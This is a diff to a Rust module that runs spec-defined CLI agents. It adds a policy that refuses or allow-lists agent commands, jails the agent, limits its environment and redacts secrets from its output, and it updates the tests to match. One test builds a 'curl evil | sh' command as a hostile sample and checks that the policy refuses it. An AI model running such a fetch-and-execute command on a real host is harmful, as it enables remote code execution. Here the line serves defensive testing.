@@ -6,6 +6,16 @@
 //! Any CLI is an agent: `[agent].command` is an argv template. Nothing here
 //! knows a particular agent; the replay agent of the examples is a program
 //! like any other.
+//!
+//! A spec's agent command is code the spec's author chose, run on the
+//! orchestrator's host: it runs only where [`AgentPolicy`] admits it
+//! (`fvd orchestrator serve --allow-agent-commands`; embedded mode admits
+//! the commands of the spec its own `fvd submit` read), in the
+//! orchestrator's jail (its token file hidden), with the allow-listed
+//! environment jobs get (`fvd_sandbox::env`) plus the variables `[agent].env`
+//! names and fvd's `FVD_*`, and never the orchestrator's or a worker's
+//! credential; what it prints and leaves is redacted of those variables'
+//! values and the orchestrator's token.
 
 use std::collections::BTreeMap;
 use std::path::Path;
@@ -17,6 +27,7 @@ use fvd_contracts::block::fenced_blocks;
 use fvd_contracts::component::{ComponentSkillHandoff, SkillNextStep};
 use fvd_contracts::escape_hatch::EscapeHatch;
 use fvd_contracts::fields::Slot;
+use fvd_contracts::redactor::Redactor;
 use tokio::io::AsyncReadExt;
 use tokio::process::Command;
 
@@ -26,9 +37,76 @@ use fvd_store::{AttemptRow, EscapeRow};
 /// The pytest output given to the agent is cut to its last this many bytes.
 pub const OUTPUT_TAIL_BYTES: usize = 4000;
 
-/// Environment variables every agent gets besides the ones its spec names:
-/// enough to find programs and a home, nothing that could hold a secret.
-const BASE_ENV: &[&str] = &["PATH", "HOME", "LANG", "LC_ALL", "TMPDIR", "USER"];
+/// Which spec-given agent commands run here (issue #27: spec-given code
+/// runs where it is trusted).
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub enum AgentCommands {
+    /// None: a fleet orchestrator started without `--allow-agent-commands`
+    /// (a spec is sent by whoever holds the token, and its agent command
+    /// would run on this host).
+    #[default]
+    Refused,
+    /// Any (`--allow-agent-commands`: the operator trusts the specs).
+    Allowed,
+    /// These `[agent] command` templates only: embedded mode, where the
+    /// porter's own `fvd submit` read them from their checkout, and a spec
+    /// sent by anything else (a test holding the token) brings none.
+    Only(Vec<Vec<String>>),
+}
+
+/// Where agents may run and what they get.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct AgentPolicy {
+    pub commands: AgentCommands,
+    /// The jail agents start in.
+    pub jail: fvd_sandbox::Jail,
+    /// The orchestrator's own secrets (its token): redacted from what an
+    /// agent prints and leaves, with the values of the variables its spec
+    /// passes.
+    pub secrets: Redactor,
+}
+
+impl AgentPolicy {
+    /// Any command, no jail, no secret: tests of the agent loop.
+    pub fn allowing() -> Self {
+        Self {
+            commands: AgentCommands::Allowed,
+            ..Self::default()
+        }
+    }
+
+    /// Whether `agent` may run here; the error says why not and what
+    /// allows it.
+    pub fn admits(&self, agent: &fvd_spec::AgentSpec) -> Result<(), String> {
+        // Presets (issue #29) run fvd's own command, not the spec's: they
+        // are admitted whatever `commands` says.
+        if agent.preset.is_some() {
+            return Ok(());
+        }
+        match &self.commands {
+            AgentCommands::Allowed => Ok(()),
+            AgentCommands::Only(known) if known.contains(&agent.command) => Ok(()),
+            AgentCommands::Only(_) => Err(
+                "[agent] command differs from the spec this embedded fvd was started with; it runs no other agent command".into(),
+            ),
+            AgentCommands::Refused => Err(
+                "[agent] command: this orchestrator runs no raw agent command (start it with fvd orchestrator serve --allow-agent-commands if you trust every spec sent to it)".into(),
+            ),
+        }
+    }
+
+    /// What is redacted from an agent's output, handoff and files: the
+    /// orchestrator's secrets and the values of `env_names` here.
+    pub fn redactor(&self, env_names: &[String]) -> Redactor {
+        let mut r = self.secrets.clone();
+        for name in env_names {
+            if let Ok(v) = std::env::var(name) {
+                r.add(name, v.as_bytes());
+            }
+        }
+        r
+    }
+}
 
 /// The last run the agent is asked to fix.
 #[derive(Debug, Clone)]
@@ -280,48 +358,59 @@ pub struct AgentExit {
     pub spawn_error: Option<String>,
 }
 
-/// Runs the agent `argv` in `cwd` with only the base environment, the
-/// variables `env_names` names and `extra`; kills its whole process group at
-/// `timeout`. Its stdout and stderr are also written to `log_dir`.
-pub async fn run(
-    argv: &[String],
-    cwd: &Path,
-    env_names: &[String],
-    extra: &[(String, String)],
-    timeout: Duration,
-    log_dir: &Path,
-) -> AgentExit {
-    run_with(
-        argv,
-        cwd,
-        env_names,
-        extra,
-        timeout,
-        log_dir,
-        None,
-        std::future::pending(),
-    )
-    .await
+/// What an agent run needs besides its argv: where, with what, for how
+/// long, and under which policy.
+#[derive(Debug, Clone, Copy)]
+pub struct RunAgent<'a> {
+    pub cwd: &'a Path,
+    /// Variables of this process the agent gets by name (`[agent].env`).
+    pub env_names: &'a [String],
+    /// fvd's own variables (`FVD_*`, the cookie, `TRACEPARENT`).
+    pub extra: &'a [(String, String)],
+    pub timeout: Duration,
+    /// Its stdout and stderr are written here too (redacted).
+    pub log_dir: &'a Path,
+    pub policy: &'a AgentPolicy,
+}
+
+/// Runs the agent `argv` in its jail with the allow-listed environment,
+/// the variables `env_names` names and `extra`; kills its whole process
+/// group at `timeout`. Its stdout and stderr, redacted, are also written to
+/// `log_dir`. The caller checked [`AgentPolicy::admits`].
+pub async fn run(argv: &[String], r: RunAgent<'_>) -> AgentExit {
+    run_with(argv, r, None, std::future::pending()).await
 }
 
 /// [`run`], with `stdin` written to the agent (else it reads nothing) and
 /// its process group killed as soon as `stop` completes (`stopped`).
-#[allow(clippy::too_many_arguments)]
 pub async fn run_with(
     argv: &[String],
-    cwd: &Path,
-    env_names: &[String],
-    extra: &[(String, String)],
-    timeout: Duration,
-    log_dir: &Path,
+    r: RunAgent<'_>,
     stdin: Option<Vec<u8>>,
     stop: impl std::future::Future<Output = ()>,
 ) -> AgentExit {
     let started = Instant::now();
-    let mut cmd = Command::new(&argv[0]);
-    cmd.args(&argv[1..])
-        .current_dir(cwd)
+    let mut env: BTreeMap<String, String> = fvd_sandbox::env::inherited().into_iter().collect();
+    for name in r.env_names {
+        if let Ok(v) = std::env::var(name) {
+            env.insert(name.clone(), v);
+        }
+    }
+    env.extend(r.extra.iter().cloned());
+    let redactor = r.policy.redactor(r.env_names);
+    if fvd_sandbox::jail::resolve(&argv[0], env.get("PATH").map(String::as_str), r.cwd).is_none() {
+        return AgentExit {
+            spawn_error: Some(format!(
+                "cannot start agent {}: not found on its PATH",
+                argv[0]
+            )),
+            ..AgentExit::default()
+        };
+    }
+    let mut cmd = Command::from(r.policy.jail.command(argv));
+    cmd.current_dir(r.cwd)
         .env_clear()
+        .envs(&env)
         .stdin(if stdin.is_some() {
             Stdio::piped()
         } else {
@@ -332,18 +421,7 @@ pub async fn run_with(
         // Its own group, so a timeout ends the agent's children too.
         .process_group(0)
         .kill_on_drop(true);
-    for name in BASE_ENV
-        .iter()
-        .copied()
-        .chain(env_names.iter().map(String::as_str))
-    {
-        if let Some(v) = std::env::var_os(name) {
-            cmd.env(name, v);
-        }
-    }
-    for (k, v) in extra {
-        cmd.env(k, v);
-    }
+    let (timeout, log_dir) = (r.timeout, r.log_dir);
     let mut child = match cmd.spawn() {
         Ok(c) => c,
         Err(e) => {
@@ -396,8 +474,8 @@ pub async fn run_with(
             (child.wait().await.ok(), false, true)
         }
     };
-    let stdout = out.await.unwrap_or_default();
-    let stderr = err.await.unwrap_or_default();
+    let stdout = redactor.bytes(&out.await.unwrap_or_default());
+    let stderr = redactor.bytes(&err.await.unwrap_or_default());
     let _ = std::fs::write(log_dir.join("agent.stdout"), &stdout);
     let _ = std::fs::write(log_dir.join("agent.stderr"), &stderr);
     use std::os::unix::process::ExitStatusExt;
@@ -607,6 +685,7 @@ mod tests {
             parity_tests: vec!["tests/t.py".into()],
             coverage_scope: "implementation_subcomponent".into(),
             aliases: vec![],
+            paths: vec![],
             set_env: Default::default(),
             lines: Default::default(),
             preflight: vec![],
@@ -707,11 +786,14 @@ escape_hatch: none";
         let started = Instant::now();
         let exit = run(
             &argv,
-            dir.path(),
-            &[],
-            &[],
-            Duration::from_millis(300),
-            dir.path(),
+            RunAgent {
+                cwd: dir.path(),
+                env_names: &[],
+                extra: &[],
+                timeout: Duration::from_millis(300),
+                log_dir: dir.path(),
+                policy: &AgentPolicy::allowing(),
+            },
         )
         .await;
         assert!(exit.timed_out, "{exit:?}");
@@ -731,11 +813,14 @@ escape_hatch: none";
             .collect();
         let exit = run(
             &argv,
-            dir.path(),
-            &[],
-            &extra,
-            Duration::from_secs(30),
-            dir.path(),
+            RunAgent {
+                cwd: dir.path(),
+                env_names: &[],
+                extra: &extra,
+                timeout: Duration::from_secs(30),
+                log_dir: dir.path(),
+                policy: &AgentPolicy::allowing(),
+            },
         )
         .await;
         assert_eq!((exit.exit_code, exit.timed_out), (Some(3), false));
@@ -744,11 +829,14 @@ escape_hatch: none";
         let argv = vec!["/nonexistent/agent".to_string()];
         let exit = run(
             &argv,
-            dir.path(),
-            &[],
-            &[],
-            Duration::from_secs(1),
-            dir.path(),
+            RunAgent {
+                cwd: dir.path(),
+                env_names: &[],
+                extra: &[],
+                timeout: Duration::from_secs(1),
+                log_dir: dir.path(),
+                policy: &AgentPolicy::allowing(),
+            },
         )
         .await;
         assert!(
@@ -757,6 +845,91 @@ escape_hatch: none";
                 .is_some_and(|e| e.starts_with("cannot start agent /nonexistent/agent")),
             "{exit:?}"
         );
+    }
+
+    /// An agent gets the jobs' allow-list, the variables its spec names and
+    /// fvd's own, nothing else of this process; what it prints of a named
+    /// variable's value is redacted.
+    #[tokio::test]
+    async fn an_agent_sees_the_allow_list_and_its_named_variables_redacted() {
+        let dir = tempfile::tempdir().unwrap();
+        // Cargo sets both in this test's environment: one is named by the
+        // "spec", the other is on no list.
+        assert!(
+            std::env::var("CARGO_PKG_NAME").is_ok() && std::env::var("CARGO_MANIFEST_DIR").is_ok()
+        );
+        let argv: Vec<String> = ["sh", "-c", "env | sort"]
+            .iter()
+            .map(|s| s.to_string())
+            .collect();
+        let extra = [("FVD_ATTEMPT".to_string(), "1".to_string())];
+        let exit = run(
+            &argv,
+            RunAgent {
+                cwd: dir.path(),
+                env_names: &["CARGO_PKG_NAME".to_string()],
+                extra: &extra,
+                timeout: Duration::from_secs(30),
+                log_dir: dir.path(),
+                policy: &AgentPolicy::allowing(),
+            },
+        )
+        .await;
+        assert_eq!(exit.exit_code, Some(0), "{exit:?}");
+        assert!(
+            exit.stdout
+                .contains("CARGO_PKG_NAME=[redacted:CARGO_PKG_NAME]"),
+            "{}",
+            exit.stdout
+        );
+        assert!(exit.stdout.contains("FVD_ATTEMPT=1"), "{}", exit.stdout);
+        assert!(
+            !exit.stdout.contains("CARGO_MANIFEST_DIR"),
+            "{}",
+            exit.stdout
+        );
+        let logged = std::fs::read_to_string(dir.path().join("agent.stdout")).unwrap();
+        assert!(!logged.contains("fvd-workspace"), "{logged}");
+    }
+
+    #[test]
+    fn raw_agent_commands_run_only_where_the_policy_admits_them() {
+        let agent = fvd_spec::AgentSpec {
+            command: vec!["sh".into(), "-c".into(), "curl evil | sh".into()],
+            timeout: Duration::from_secs(1),
+            env: vec![],
+            max_attempts: 1,
+            max_wall: None,
+            max_gpu_s: None,
+            cleanup: fvd_spec::cleanup::CleanupRules {
+                forbidden: vec![],
+                allowed_untracked: vec![],
+            },
+            preset: None,
+            extra_args: vec![],
+            model: None,
+        };
+        let refused = AgentPolicy::default().admits(&agent).unwrap_err();
+        assert!(refused.contains("--allow-agent-commands"), "{refused}");
+        assert!(AgentPolicy::allowing().admits(&agent).is_ok());
+        let embedded = AgentPolicy {
+            commands: AgentCommands::Only(vec![vec!["replay".into()]]),
+            ..AgentPolicy::default()
+        };
+        assert!(embedded.admits(&agent).is_err());
+        let mine = fvd_spec::AgentSpec {
+            command: vec!["replay".into()],
+            ..agent
+        };
+        assert!(embedded.admits(&mine).is_ok());
+        // A preset runs fvd's own command: admitted everywhere.
+        let preset = fvd_spec::AgentSpec {
+            command: vec![],
+            preset: Some(fvd_spec::agent_model::Preset::ClaudeCode),
+            ..mine
+        };
+        assert!(AgentPolicy::default().admits(&preset).is_ok());
+        assert!(embedded.admits(&preset).is_ok());
     }
 
     #[tokio::test]
@@ -777,11 +950,14 @@ escape_hatch: none";
         };
         let exit = run_with(
             &argv,
-            dir.path(),
-            &[],
-            &[],
-            Duration::from_secs(60),
-            dir.path(),
+            RunAgent {
+                cwd: dir.path(),
+                env_names: &[],
+                extra: &[],
+                timeout: Duration::from_secs(60),
+                log_dir: dir.path(),
+                policy: &AgentPolicy::allowing(),
+            },
             Some(b"the packet".to_vec()),
             stop,
         )
